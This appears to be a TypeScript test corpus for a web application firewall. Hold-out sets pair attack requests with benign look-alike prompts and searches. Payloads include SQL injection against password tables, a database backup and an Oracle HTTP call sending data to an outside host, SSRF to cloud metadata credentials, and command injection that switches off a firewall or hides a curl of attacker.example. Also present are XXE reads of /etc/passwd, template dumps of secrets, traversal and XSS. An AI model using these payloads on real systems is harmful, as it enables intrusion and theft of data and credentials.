  { category: 'lfi-rfi', name: 'holdout-5: a zero-padded octal IP host', why: 'http://0102.0146.0007.00000223/ is 66.102.7.147 to inet_aton: an SSRF filter bypass', path: `/api/fetch?url=${pct('http://0102.0146.0007.00000223/')}` },
  { category: 'lfi-rfi', name: 'holdout-5: a zero-padded hex IP host', why: 'http://0x42.0x0000066.0x7.0x93/ is the same address in padded hex', method: 'POST', path: '/api/webhooks', headers: bearer, json: { url: 'http://0x42.0x0000066.0x7.0x93/' } },
  { category: 'nosql', name: 'holdout-5: JavaScript for a $where clause', why: "' || 1==1 turns a $where string comparison into true", path: `/api/agents?name=${pct("' || 1==1")}` },
  { category: 'nosql', name: 'holdout-5: a $where body that returns true', why: '0;return true ends the expression and returns true for every document', method: 'POST', path: '/api/auth/login', headers: form, body: `username=admin&password=${pct('0;return true')}` },
  { category: 'nosql', name: 'holdout-5: a value that closes the query object', why: "' } ], $comment: … closes the array and the object, then adds an operator", method: 'POST', path: '/api/agents/query', headers: bearer, json: { name: "' } ], $comment:'successful MongoDB injection'" } },
  { category: 'lfi-rfi', name: 'holdout-5: an ldap URL that smuggles memcached commands', why: 'ldap://host:11211/%0astats%0aquit: a fetcher that speaks LDAP to a memcached port sends the lines', path: `/api/fetch?url=${pct('ldap://evil.example:11211/%0astats%0aquit')}` },
  { category: 'lfi-rfi', name: 'holdout-5: an sftp URL in a webhook field', why: 'A fetcher that follows sftp:// reaches internal SSH services', method: 'POST', path: '/api/webhooks', headers: bearer, json: { url: 'sftp://evil.example:1234/' } },
];

const HOLDOUT_5_BENIGN: CorpusEntry[] = [
  { category: 'write', name: 'holdout-5: a Windows document path in a prompt', why: 'Users paste their own file paths', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why can Python not open C:\\Users\\me\\Documents\\report.docx? It says permission denied.') },
  { category: 'write', name: 'holdout-5: the hosts file and system32 in a prompt', why: 'Local development questions name them (/etc/hosts, windows/system32 and xampp/htdocs themselves are refused by the CRS: 930120)', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('How do I add a line to the hosts file for local dev, and is System32 on the PATH by default? The etc-hosts and etc_hosts roles both exist, and windows-system32 is a tag.') },
  { category: 'read', name: 'holdout-5: searches with comparisons and numbers', why: 'Math and sizes in a search box', path: `/api/search?q=${pct('2 and 2=4 proof')}&size=${pct('size 10 or 12')}`, headers: bearer },
  { category: 'read', name: 'holdout-5: a search that says order by', why: 'People search for how to sort', path: `/api/search?q=${pct('sort order by 3 fields')}&tag=${pct('rock and roll')}`, headers: bearer },
  { category: 'write', name: 'holdout-5: a question on Twig filters and class names', why: 'Template code in a prompt (an API body)', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('In Twig, {{ items|filter(v => v.active)|map(u => u.name)|join(", ") }} works, but how do I print {{ user.class }} and sort with {{ rows|sort((a, b) => a.rank <=> b.rank) }}?') },
  { category: 'write', name: 'holdout-5: net view and a log path in prose', why: 'Words after a semicolon, and log names in prose (logs/access.log itself is refused by the CRS: 930120)', method: 'POST', path: '/api/feedback', headers: { ...bearer, ...form }, body: `comment=${pct('Great tool; net view of the runs is clear. Why are the logs access.log and error_log empty after the rotation?')}&rating=5` },
  { category: 'write', name: 'holdout-5: a prompt about short-circuits and aliases', why: 'JavaScript questions quote || 1==1 and aliased functions', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why does `a || 1==1` always pass, and is `const log = console.log; log(1)` fine? Also: return true; vs return 1; in a filter.') },
  { category: 'read', name: 'holdout-5: a URL with a plain address and a version path', why: 'Dotted numbers in webhooks and versions', path: `/api/webhooks/test?url=${pct('https://hooks.example.com/v1.0102.07/notify')}&build=${pct('0102.0146.0007')}`, headers: bearer },
  { category: 'write', name: 'holdout-5: feedback that starts with a condition', why: 'Prose can open with or and and', method: 'POST', path: '/api/feedback', headers: { ...bearer, ...form }, body: `comment=${pct('or maybe x=5 is fine, and 3 > 2 anyway')}&rating=5` },
];

/**
 * Hold-out 6 (2026-12-03, from the attack lists of a public fuzzing database, fuzzdb-project/fuzzdb at 5656ab2, replayed
 * by hand as query values; these entries are written from the categories, not copied): SELECTs of a database server's
 * identity and account tables, a backup to another host and an Oracle package called after a quote; a quote spelled
 * as a hex escape before a condition; a condition after a semicolon; XPath tests on the document root; JavaScript for
 * a $where clause that reads the document through this. Beside them: prompts that name the same functions, tables
 * and escapes in prose.
 */
const HOLDOUT_6_ATTACKS: CorpusEntry[] = [
  { category: 'sqli', name: 'holdout-6: the server version as a whole search', why: 'select @@version: the first probe once a value reaches SQL Server or MySQL as a statement', path: `/api/search?q=${pct('select @@version')}` },
  { category: 'sqli', name: 'holdout-6: the Postgres password table in a JSON field', why: 'pg_shadow (pg_authid since 9.x) holds every role\'s password hash', method: 'POST', path: '/api/agents/query', headers: bearer, json: { filter: 'select usename, passwd from pg_shadow;' } },
  { category: 'sqli', name: 'holdout-6: the login table of SQL Server in a custom header', why: 'master..syslogins lists every login and its hash', path: '/api/runs', headers: { ...bearer, 'Report-Query': 'select name, password from master..syslogins' } },
  { category: 'sqli', name: 'holdout-6: the current database user in a form field', why: 'select current_user; tells the attacker which privileges the injection has', method: 'POST', path: '/api/feedback', headers: form, body: `comment=${pct('select current_user;')}&rating=1` },
  { category: 'sqli', name: 'holdout-6: a database backup to another host', why: "BACKUP DATABASE … TO DISK='\\\\host\\share' copies the whole database out over SMB", method: 'POST', path: '/api/agents/query', headers: bearer, json: { filter: "x'; BACKUP DATABASE master TO DISK='\\\\203.0.113.9\\share\\m.bak'--" } },
  { category: 'sqli', name: 'holdout-6: an Oracle HTTP call concatenated after a quote', why: "'||UTL_HTTP.REQUEST(…)||' sends query results to the attacker's server (out of band)", path: '/api/me', headers: { Cookie: "lang=en'||UTL_HTTP.REQUEST('http://203.0.113.9/'||(select user from dual))||'" } },
  { category: 'sqli', name: 'holdout-6: a quote written as a hex escape before a tautology', why: "1\\x27 or \\x271\\x27=\\x271 is 1' or '1'='1 once a PHP or JavaScript string unescapes it", path: `/api/runs?id=${pct("1\\x27 or \\x271\\x27=\\x271")}` },
  { category: 'sqli', name: 'holdout-6: a quoted tautology after a semicolon', why: "; or '1'='1' closes the statement part and appends a true condition", method: 'POST', path: '/api/auth/login', headers: form, body: `username=${pct("; or '1'='1'")}&password=x` },
  { category: 'xpath', name: 'holdout-6: an XPath count of the root in a login field', why: "' and count(/*)=1 and '1'='1 probes the document's shape through an XPath login query", method: 'POST', path: '/api/auth/login', headers: form, body: `username=${pct("' and count(/*)=1 and '1'='1")}&password=x` },
  { category: 'xpath', name: 'holdout-6: an XPath name test of the root element', why: "x' or name(/*[1])='users reads the document one test at a time (blind XPath injection)", path: `/api/search?q=${pct("x' or name(/*[1])='users")}` },
  { category: 'nosql', name: 'holdout-6: a $where clause that reads a field through this', why: "' || this.password.match(/^a/) || ' leaks a password one guess at a time", method: 'POST', path: '/api/auth/login', headers: bearer, json: { username: "' || this.password.match(/^a/) || '", password: 'x' } },
];

const HOLDOUT_6_BENIGN: CorpusEntry[] = [
  { category: 'write', name: 'holdout-6: a DBA question that names server variables and tables', why: 'Database questions in a prompt (an API body) name @@version, current_user and pg_stat_activity', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Our DBA says @@version shows 2017 and current_user is app_rw; why does pg_stat_activity list idle sessions, and should we back up the database to disk nightly?') },
  { category: 'write', name: 'holdout-6: systemd users and an XSLT count in a prompt', why: 'sysusers.d files and count(/*) are ordinary in Linux and XML questions', method: 'POST', path: '/api/runs', headers: bearer, json: prompt("How do sysusers.d files create users, and why does count(/*) return 1 but count(//item) 0 in my XSLT? The name() of the root is 'feed'.") },
  { category: 'read', name: 'holdout-6: a search for hex escapes and quotes', why: 'People search for how to write a quote', path: `/api/search?q=${pct("python \\x27 or \\x22 escape")}&tag=${pct("it's or isn't")}`, headers: bearer },
  { category: 'write', name: 'holdout-6: feedback about this and semicolons', why: "Prose says 'this' after || in code talk, and starts sentences with a semicolon list", method: 'POST', path: '/api/feedback', headers: { ...bearer, ...form }, body: `comment=${pct("Use a || this.fallback in the docs; or 'yes' = 'yes' as a joke example, select all then export")}` },
];

/**
 * Hold-out 7 (2026-12-03, from the Intruder lists of public payload lists, payloadbox's sql-injection-payload-list at
 * 6e55457, xss-payload-list at d473925 and ssti-payloads at 9101330, replayed by hand as query values; written from the
 * categories): a quoted string compared right after OR at the start of a value, a stacked statement after a bare
 * semicolon, membership in a subquery, HAVING after GROUP BY, GRANT after a quote, a function call concatenated after a
 * quote, PRINT of a server variable and the catalogs of DB2 and Postgres; Twig and Jinja dumps of the server's
 * variables and configuration. Beside them: prose with the same words.
 */
const HOLDOUT_7_ATTACKS: CorpusEntry[] = [
  { category: 'sqli', name: 'holdout-7: a quoted-string tautology appended to a search', why: " or 'a'='a closes nothing and makes the WHERE true when the value follows a number", path: `/api/search?q=${pct(" or 'a'='a")}` },
  { category: 'sqli', name: 'holdout-7: a national-string comparison in a form field', why: "or 'text' = n'text' is the same tautology with an N'' literal (SQL Server)", method: 'POST', path: '/api/auth/login', headers: form, body: `username=${pct("x or 'text' = n'text'")}&password=x` },
  { category: 'sqli', name: 'holdout-7: a stacked procedure call after a bare semicolon', why: '; exec xp_regread reads the registry once the value ends a statement', path: '/api/runs', headers: { ...bearer, 'Account-Id': '; exec xp_regread' } },
  { category: 'sqli', name: 'holdout-7: a stacked SELECT after a number', why: '1;SELECT * runs a second query after the id', path: `/api/runs?id=${pct('1;SELECT *')}` },
  { category: 'sqli', name: 'holdout-7: membership in a subquery of a server variable', why: 'or 1 in (select @@version)-- leaks the version through a conversion error', method: 'POST', path: '/api/agents/query', headers: bearer, json: { filter: 'x or 1 in (select @@version)--' } },
  { category: 'sqli', name: 'holdout-7: HAVING after GROUP BY in a cookie', why: 'group by userid having 1=1-- is the error probe that names the next column', path: '/api/me', headers: { Cookie: 'sort=name group by userid having 1=1--' } },
  { category: 'sqli', name: 'holdout-7: a GRANT after a quote', why: "x' grant connect to eve-- gives an account rights once the quote ends the string", method: 'POST', path: '/api/feedback', headers: form, body: `comment=${pct("x' grant connect to eve--")}` },
  { category: 'sqli', name: 'holdout-7: a function call concatenated after a quote', why: "' || app.adduser('admin', 'pw') || ' runs a stored function inside the string (Oracle, Postgres)", path: `/api/search?q=${pct("' || app.adduser('admin', 'pw') || '")}` },
  { category: 'sqli', name: 'holdout-7: PRINT of a server variable in a custom header', why: 'PRINT @@servername answers in an error message (SQL Server)', path: '/api/health', headers: { 'Report-Query': 'PRINT @@servername' } },
  { category: 'sqli', name: 'holdout-7: the Postgres group catalog and the DB2 authorizations', why: 'pg_group and syscat.tabauth list roles and table grants', method: 'POST', path: '/api/agents/query', headers: bearer, json: { filter: 'select * from pg_group;', report: 'select * from syscat.tabauth;' } },
  { category: 'cmdi', name: 'holdout-7: a Twig dump of every server variable', why: "{{app.request.server.all|join(',')}} prints the environment, secrets included", path: `/api/templates/preview?body=${pct("{{app.request.server.all|join(',')}}")}` },
  { category: 'cmdi', name: 'holdout-7: a Jinja loop over the configuration', why: '{% for k, v in config.iteritems() %} dumps SECRET_KEY and every setting', method: 'POST', path: '/api/templates/render', headers: bearer, json: { template: '{% for k, v in config.iteritems() %}{{ k }}={{ v }} {% endfor %}' } },
];

const HOLDOUT_7_BENIGN: CorpusEntry[] = [
  { category: 'write', name: 'holdout-7: prose with grant, print and subquery words', why: 'Policy notes say grant connect to, print the report, and in (select) regions (CRS 4 itself refuses a semicolon, print and an at sign in one value)', method: 'POST', path: '/api/feedback', headers: { ...bearer, ...form }, body: `comment=${pct("Grant connect to new hires after day one, print the report for the team, available in (select) regions; the students' grant to travel is approved. Ana asked us to \"grant all access to the new team\" today")}` },
  { category: 'write', name: 'holdout-7: a Symfony template question', why: 'Twig reads app.request and Jinja loops over items in prompts', method: 'POST', path: '/api/runs', headers: bearer, json: prompt("In Twig, {{ app.request.server.get('HTTP_HOST') }} is empty behind a proxy, and in Jinja {% for k, v in items.items() %} prints nothing. Why?") },
  { category: 'read', name: 'holdout-7: a search that starts with or and quotes a word', why: "or 'maybe' is how people search for alternatives", path: `/api/search?q=${pct("or 'maybe' later")}&tag=${pct("or 'b' for the second draft")}`, headers: bearer },
];

/**
 * Hold-out 8 (2026-12-03, from the XXE list of payloadbox's xxe-injection-payload-list at 7ab1208, its whole documents sent
 * as XML bodies; written from the category): an SVG whose image reference is a PHP stream wrapper or a local file, which a
 * server that renders or converts the SVG follows. Beside them: an SVG with a fragment reference and an HTTPS image.
 */
const HOLDOUT_8_ATTACKS: CorpusEntry[] = [
  { category: 'xxe', name: 'holdout-8: an SVG image that runs a command through a PHP wrapper', why: 'xlink:href="expect://id" runs id when PHP with the expect extension loads the image', method: 'POST', path: '/api/imports', headers: XML('application/xml'), body: '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200"><image xlink:href="expect://id"></image></svg>' },
  { category: 'xxe', name: 'holdout-8: an SVG avatar in JSON whose image is a local file', why: 'A converter that rasterises the SVG embeds /etc/passwd in the picture', method: 'POST', path: '/api/users/42/avatar', headers: bearer, json: { svg: '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file:///etc/passwd" width="200" height="200"/></svg>' } },
];

const HOLDOUT_8_BENIGN: CorpusEntry[] = [
  { category: 'upload', name: 'holdout-8: an SVG with a symbol reference and an HTTPS image', why: 'Icons use fragment references and logos load over HTTPS', method: 'POST', path: '/api/imports', headers: { ...bearer, ...XML('application/xml') }, body: '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24"><use xlink:href="#icon-run"/><image href="https://cdn.example.com/logo.png" width="24" height="24"/></svg>' },
];

/**
 * Hold-out 9 (2026-12-03, from a public SSRF test collection, cujanovic/SSRF-Testing at c26c3df: its cloud metadata list
 * and the URLs of its README, sent as a query value and as a JSON webhook URL; written from the categories): a URL whose
 * user part hides an internal host, the cloud metadata path or address on another host, wildcard DNS names that resolve
 * to an internal address, and a host spelled in circled or fullwidth digits that a URL parser normalises to an IP.
 * Beside them: a webhook with credentials, an AWS documentation link, and Japanese prose around a URL.
 */
const HOLDOUT_9_ATTACKS: CorpusEntry[] = [
  { category: 'lfi-rfi', name: 'holdout-9: a webhook whose user part hides a loopback host', why: 'http://hooks.example.com:80+&@127.88.23.245:22/ connects to 127.88.23.245, the part before @ is a user name', method: 'POST', path: '/api/webhooks', headers: bearer, json: { url: 'http://hooks.example.com:80+&@127.88.23.245:22/', events: ['run.completed'] } },
  { category: 'lfi-rfi', name: 'holdout-9: a backslash before the user separator', why: 'Parsers disagree on hooks.example.com:80\\@10.0.0.7: one checks the first host, another connects to the second', path: `/api/webhooks/test?url=${pct('http://hooks.example.com:80\\@10.0.0.7:6379/')}` },
  { category: 'lfi-rfi', name: 'holdout-9: a private host after an at sign in the fragment', why: 'Older parsers read the host after the last @ even past #', method: 'POST', path: '/api/webhooks', headers: bearer, json: { url: 'http://hooks.example.com:80#+@192.168.1.10:8080/admin' } },
  { category: 'lfi-rfi', name: 'holdout-9: two user parts, the second past a #', why: 'a.example:80+&@a.example:80#+@127.0.0.1:22: the host a parser picks depends on where it stops reading (each + is a space once decoded)', path: `/api/webhooks/test?url=${pct('http://hooks.example.com:80+&@hooks.example.com:80#+@127.0.0.1:22/')}` },
  { category: 'lfi-rfi', name: 'holdout-9: the cloud metadata path on another host', why: 'A name that resolves to 169.254.169.254 reaches /latest/meta-data/ and its IAM credentials', method: 'POST', path: '/api/webhooks', headers: bearer, json: { url: 'http://metadata.attacker.example/latest/meta-data/iam/security-credentials/' } },
  { category: 'lfi-rfi', name: 'holdout-9: the metadata address in a redirect service path', why: 'The service answers 301 to http://169.254.169.254:80, which the fetcher follows', path: `/api/webhooks/test?url=${pct('https://redirect.example.net/301-http-169.254.169.254:80-.i.jpg')}` },
  { category: 'lfi-rfi', name: 'holdout-9: a wildcard DNS name for the loopback address', why: '127.0.0.1.nip.io resolves to 127.0.0.1', method: 'POST', path: '/api/webhooks', headers: bearer, json: { url: 'http://127.0.0.1.nip.io:8080/admin' } },
  { category: 'lfi-rfi', name: 'holdout-9: a name that always resolves to localhost in a custom header', why: 'Every name under localtest.me is 127.0.0.1', path: '/api/health', headers: { 'Callback-Url': 'http://api.localtest.me/internal/debug' } },
  { category: 'lfi-rfi', name: 'holdout-9: a host in circled digits', why: 'NFKC turns http://①②⑦.⓪.⓪.① into http://127.0.0.1', path: `/api/webhooks/test?url=${pct('http://①②⑦.⓪.⓪.①/')}` },
  { category: 'lfi-rfi', name: 'holdout-9: the metadata address in fullwidth digits', why: '１６９.２５４.１６９.２５４ normalises to 169.254.169.254', method: 'POST', path: '/api/webhooks', headers: bearer, json: { url: 'http://１６９.２５４.１６９.２５４/latest/user-data' } },
];

const HOLDOUT_9_BENIGN: CorpusEntry[] = [
  { category: 'write', name: 'holdout-9: a webhook with credentials and a documentation link', why: 'Basic-auth webhooks carry a user part; AWS docs name the metadata service in their path', method: 'POST', path: '/api/webhooks', headers: bearer, json: { url: 'https://bot:s3cr3t-token@hooks.example.com/services/T000/B000', docs: 'https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/ec2-instance-metadata.html', events: ['run.failed'] } },
  { category: 'write', name: 'holdout-9: Japanese prose with circled numbers around a URL, and a git URL with a private host', why: 'Japanese ends sentences with 。 and numbers steps with ①②③; a DevOps prompt names an ssh:// login on a private host, a chat handle after a URL, and nip.io and lvh.me names it tests with (a sentence naming nip.io, or with fullwidth digits, is refused by CRS 3.3.4 itself)', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('手順①②③を確認してください。詳細は https://example.com/docs。 Also: git clone ssh://git@10.0.0.5/factory.git fails, see https://example.com/help and ask me@10.0.0.1 on chat. For local tests I open http://192.168.1.5.nip.io:3000 and http://app.lvh.me:8080 in the browser.') },
];

/**
 * Hold-out 10 (written from the categories of 1N3/IntruderPayloads at 9b84328, whose FuzzLists and BurpAttacks lists
 * were replayed as query values by a script that is not committed, and from the benign sections of
 * minimaxir/big-list-of-naughty-strings at db33ec7): request splitting with request headers, blind subquery probes,
 * escaped line breaks and terminal escapes before commands, Windows tampering as a whole value, a spaced class walk,
 * absolute paths into system and server folders, slash-backslash open redirects, and a US-ASCII tag.
 */
const HOLDOUT_10_ATTACKS: CorpusEntry[] = [
  { category: 'protocol', name: 'holdout-10: CRLF then a Referer header in a redirect target', why: 'An application that builds a request from next= gets a Referer of the attacker (request splitting; CRS checks Location and Set-Cookie-like names only)', path: '/api/auth/callback?next=%0d%0aReferer:%20https://attacker.example/' },
  { category: 'protocol', name: 'holdout-10: U+560A U+560D then an Authorization header', why: 'Servers that truncate 嘊嘍 to LF CR inject the credentials header of the next hop', path: '/api/search?q=%E5%98%8A%E5%98%8DAuthorization:%20Basic%20YWRtaW46YWRtaW4=' },
  { category: 'sqli', name: 'holdout-10: a blind probe on a subquery of the server version', why: 'A value that goes on with and (select substring(@@version,1,1))=\'M\' reads the version one character at a time (CRS 3.3 misses it)', path: "/api/items?id=%20and%20(select%20substring(@@version,1,1))='M'" },
  { category: 'sqli', name: 'holdout-10: RLIKE on a CASE subquery', why: 'sqlmap\'s boolean probe through a regular expression error', path: "/api/items?id=%20RLIKE%20(SELECT%20(CASE%20WHEN%20(4346=4346)%20THEN%200x61646d696e%20ELSE%200x28%20END))%20AND%20'Txws'='" },
  { category: 'cmdi', name: 'holdout-10: a terminal escape before curl', why: '\\033[2A moves the cursor up, so a log viewer hides the line that fetches a script', path: '/api/search?q=%5Cn%5C033%5B2Acurl%20https://attacker.example/x.sh' },
  { category: 'cmdi', name: 'holdout-10: escaped line breaks around id', why: 'An application that unescapes \\n runs id as a command line of its own', path: '/api/tools/lookup?domain=%5Cnid%7C' },
  { category: 'cmdi', name: 'holdout-10: a command ended by an escaped line break', why: '127.0.0.1;id\\n: the escape is the line end once unescaped', path: '/api/tools/ping?host=127.0.0.1;id%5Cn' },
  { category: 'cmdi', name: 'holdout-10: pwd after a separator', why: 'The working directory, the first step of a blind command injection', path: '/api/tools/ping?host=127.0.0.1;%20pwd' },
  { category: 'cmdi', name: 'holdout-10: dir after an ampersand', why: 'cmd.exe lists the folder after the ping', method: 'POST', path: '/api/tools/run', headers: bearer, json: { host: '8.8.8.8 & dir' } },
  { category: 'cmdi', name: 'holdout-10: a firewall switched off as a whole value', why: 'netsh advfirewall set allprofiles state off passed whole to cmd.exe', path: '/api/tools/run?cmd=netsh%20advfirewall%20set%20allprofiles%20state%20off' },
  { category: 'cmdi', name: 'holdout-10: a registry change that opens remote desktop', why: 'reg add "HKLM\\…\\Terminal Server" /v fDenyTSConnections … /f as a form value', method: 'POST', path: '/api/tools/run', headers: form, body: 'cmd=reg%20add%20%22HKLM%5CSystem%5CCurrentControlSet%5CControl%5CTerminal%20Server%22%20/v%20fDenyTSConnections%20/t%20REG_DWORD%20/d%200%20/f' },
  { category: 'cmdi', name: 'holdout-10: net view of a file server', why: 'Share enumeration of another host', path: '/api/tools/run?cmd=net%20view%20%5C%5Cfileserver' },
  { category: 'cmdi', name: 'holdout-10: a class walk with spaces inside the underscores', why: '{{[].__ class __.__ base __.__ subclasses __()}} slips past a filter for __class__', path: '/api/templates/preview?tpl=%7B%7B%5B%5D.__%20class%20__.__%20base%20__.__%20subclasses%20__()%7D%7D' },
  { category: 'lfi-rfi', name: 'holdout-10: the Apache config as a file parameter', why: '/etc/apache/conf/httpd.conf, which CRS 4 no longer lists', path: '/api/files?path=/etc/apache/conf/httpd.conf' },
  { category: 'lfi-rfi', name: 'holdout-10: a server config under /usr/local', why: '/usr/local/php4/httpd.conf', path: '/api/files?path=/usr/local/php4/httpd.conf' },
  { category: 'lfi-rfi', name: 'holdout-10: the MySQL config on a Windows drive', why: 'C:\\ProgramFiles\\MySQL\\MySQLServer5.0\\my.cnf holds the server\'s settings', method: 'POST', path: '/api/files/read', headers: bearer, json: { path: 'C:\\ProgramFiles\\MySQL\\MySQLServer5.0\\my.cnf' } },
  { category: 'lfi-rfi', name: 'holdout-10: a XAMPP Tomcat config from the drive root', why: '\\xampp\\tomcat\\conf\\web.xml', path: '/api/files?path=%5Cxampp%5Ctomcat%5Cconf%5Cweb.xml' },
  { category: 'lfi-rfi', name: 'holdout-10: php.ini behind mixed separators', why: '/NetServer\\bin\\stable\\apache\\php.ini', path: '/api/files?path=/NetServer%5Cbin%5Cstable%5Capache%5Cphp.ini' },
  { category: 'lfi-rfi', name: 'holdout-10: the kernel command line', why: '/proc/cmdline names the boot image and its options', path: '/api/logs?file=/proc/cmdline' },
  { category: 'lfi-rfi', name: 'holdout-10: the login records', why: '/var/log/wtmp lists who logged in from where', path: '/api/logs?file=/var/log/wtmp' },
  { category: 'lfi-rfi', name: 'holdout-10: a slash and a backslash before a host', why: 'Browsers follow /\\attacker.example as //attacker.example: an open redirect past a check for //', path: '/api/auth/callback?next=/%5Cattacker.example' },
  { category: 'lfi-rfi', name: 'holdout-10: a tab between two slashes before a host', why: '/%09/attacker.example: browsers drop the tab', path: '/api/auth/callback?next=/%09/attacker.example' },
  { category: 'lfi-rfi', name: 'holdout-10: escaped slashes before a host', why: '\\/\\/attacker.example is //attacker.example to a JSON-unescaping redirect', path: '/api/auth/callback?next=%5C/%5C/attacker.example' },
  { category: 'xss', name: 'holdout-10: a script tag in US-ASCII with the eighth bit set', why: '\\xbcscript\\xbe is <script> to a decoder that drops the eighth bit (CRS 941310, removed for its false positives, covered by 1022)', path: '/api/search?q=%BCscript%BEalert(1)%BC/script%BE' },
];

const HOLDOUT_10_BENIGN: CorpusEntry[] = [
  { category: 'prompt', name: 'holdout-10: a Russian prompt', why: 'м … о is \\xbc … \\xbe in UTF-8, which CRS 3.3\'s 941310 refused', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Сделай мне сводку по продажам за ноябрь и сравни с октябрём. Мне нужно написать отчёт.') },
  { category: 'read', name: 'holdout-10: a Russian search', why: 'The same bytes in a query value', path: '/api/search?q=%D0%BC%D0%BD%D0%B5%20%D0%BD%D1%83%D0%B6%D0%BD%D0%BE%20%D0%BD%D0%B0%D0%BF%D0%B8%D1%81%D0%B0%D1%82%D1%8C%20%D0%BE%D1%82%D1%87%D1%91%D1%82' },
  { category: 'prompt', name: 'holdout-10: a Japanese prompt with a slash and a closing tag', why: 'ー/ and </div> before ました meet CRS 4\'s 941310 too', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('サーバー/クライアント構成で </div> を削除したらエラーが発生しました。ログを確認してください。') },
  { category: 'read', name: 'holdout-10: a multi-line search with cookie and referral lines', why: 'Header-like words at line starts, without a header colon', path: '/api/search?q=Cookie%20policy%0AReferral%20program%0ACookie%20banner' },
  { category: 'read', name: 'holdout-10: a question about RLIKE', why: 'SQL words without a subquery', path: '/api/search?q=rlike%20vs%20regexp%20in%20mysql' },
  { category: 'read', name: 'holdout-10: a workspace file by absolute path', why: 'An agent\'s output file is not under a system folder', path: '/api/files?path=/workspace/runs/42/output.log' },
  { category: 'prompt', name: 'holdout-10: a prompt with a system path and a terminal colour escape', why: 'A path in a sentence is not a path value; \\033[31m is followed by a word, not a command', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why does /usr/local/bin/node not find my modules, and why does printf "\\033[31mred\\033[0m" print in colour? Pick one and (select all that apply) below.') },
  { category: 'read', name: 'holdout-10: a redirect target and an escaped-slash pattern', why: 'A path on this site, and a regular expression of API paths', path: '/api/auth/callback?next=/dashboard/runs&pattern=%5E%5C/api%5C/v1%5C/' },
  { category: 'read', name: 'holdout-10: net view in prose', why: 'The words of a Windows command in a phrase', path: '/api/search?q=net%20view%20of%20the%20city' },
  { category: 'prompt', name: 'holdout-10: a Japanese sentence naming nip.io', why: 'ローカル … います holds ー … ま: CRS 3.3\'s 941310 refused it, so hold-out 9 had left it out', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('ローカル環境では nip.io を使ってテストしています。') },
];

export const ATTACKS: CorpusEntry[] = [
  // SQL injection
  { category: 'sqli', name: 'guide verification: tautology in a query parameter', why: 'The guide\'s own check: curl "/api/?id=1\' OR \'1\'=\'1" must be 403', path: "/api/?id=1'%20OR%20'1'='1" },
  { category: 'sqli', name: 'comment truncation of a login name', why: 'Classic authentication bypass admin\'-- in a form', method: 'POST', path: '/api/auth/login', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: "username=admin'--&password=x" },
  { category: 'sqli', name: 'UNION SELECT exfiltration', why: 'Data theft through UNION SELECT in a search parameter', path: '/api/search?q=1%20UNION%20SELECT%20username,password%20FROM%20users--' },
  { category: 'sqli', name: 'stacked DROP TABLE in JSON', why: 'Stacked query in a JSON field of an API body', method: 'POST', path: '/api/agents/query', headers: auth, json: { filter: "name = 'x'; DROP TABLE agents; --" } },
  { category: 'sqli', name: 'time-based blind injection', why: 'Blind SQLi via SLEEP() in a numeric id', path: '/api/runs?id=1%20AND%20SLEEP(5)' },
  { category: 'sqli', name: 'SQLi in a REST path segment', why: 'REST APIs carry ids in the path, where CRS PL1 does not look for SQL', path: "/api/agents/1'%20OR%20'1'='1" },
  { category: 'sqli', name: 'NoSQL operator injection on login', why: 'JSON {"$ne": null} bypasses password checks of document databases', method: 'POST', path: '/api/auth/login', json: { username: 'admin', password: { $ne: null } } },
  { category: 'sqli', name: 'SQLi in a cookie', why: 'Injection through a session cookie value', path: '/api/me', headers: { Cookie: "session=abc' OR 1=1--" } },
  { category: 'sqli', name: 'error-based extractvalue', why: 'Error-based SQLi reading the database version', path: '/api/items?sort=extractvalue(1,concat(0x7e,(select%20version())))' },
  // XSS
  { category: 'xss', name: 'script tag in a query', why: 'Reflected XSS with a script element', path: '/api/search?q=%3Cscript%3Ealert(1)%3C/script%3E' },
  { category: 'xss', name: 'img onerror in JSON', why: 'Stored XSS through an event handler in a profile field', method: 'PUT', path: '/api/users/42', headers: auth, json: { displayName: '<img src=x onerror=alert(document.cookie)>' } },
  { category: 'xss', name: 'javascript: URL as redirect target', why: 'XSS through a redirect/link parameter', path: '/api/auth/callback?redirect=javascript:alert(document.domain)' },
  { category: 'xss', name: 'attribute breakout with svg onload', why: 'Breaking out of an attribute into an SVG element', path: '/api/search?q=%22%3E%3Csvg/onload=alert(1)%3E' },
  { category: 'xss', name: 'script in the Referer header', why: 'XSS through a logged and displayed header', path: '/api/health', headers: { Referer: 'https://example.com/<script>alert(1)</script>' } },
  { category: 'xss', name: 'iframe with javascript src in PATCH', why: 'Stored XSS via a PATCH of an agent description', method: 'PATCH', path: '/api/agents/7', headers: { ...auth, 'Content-Type': 'application/merge-patch+json' }, body: JSON.stringify({ description: '<iframe src="javascript:alert(1)"></iframe>' }) },
  { category: 'xss', name: 'HTML-entity encoded handler', why: 'Entity encoding to evade naive filters', path: '/api/search?q=%3Cbody%20onload%3D%26%23x61%3Blert(1)%3E' },
  // Directory traversal
  { category: 'traversal', name: 'dot-dot-slash to /etc/passwd', why: 'Plain directory traversal in a file parameter', path: '/api/files?path=../../../../etc/passwd' },
  { category: 'traversal', name: 'encoded traversal in the path', why: 'Percent-encoded ../ inside the URL path', path: '/api/files/..%2f..%2f..%2fetc%2fpasswd' },
  { category: 'traversal', name: 'double-encoded traversal', why: 'Double encoding to slip past one decoding', path: '/api/files?name=%252e%252e%252f%252e%252e%252fetc%252fpasswd' },
  { category: 'traversal', name: 'backslash traversal to win.ini', why: 'Windows-style traversal', path: '/api/files?name=..%5c..%5c..%5cwindows%5cwin.ini' },
  { category: 'traversal', name: 'nested dot sequences', why: 'Filter evasion ....// that collapses to ../', path: '/api/files?name=....//....//....//etc/passwd' },
  // LFI / RFI
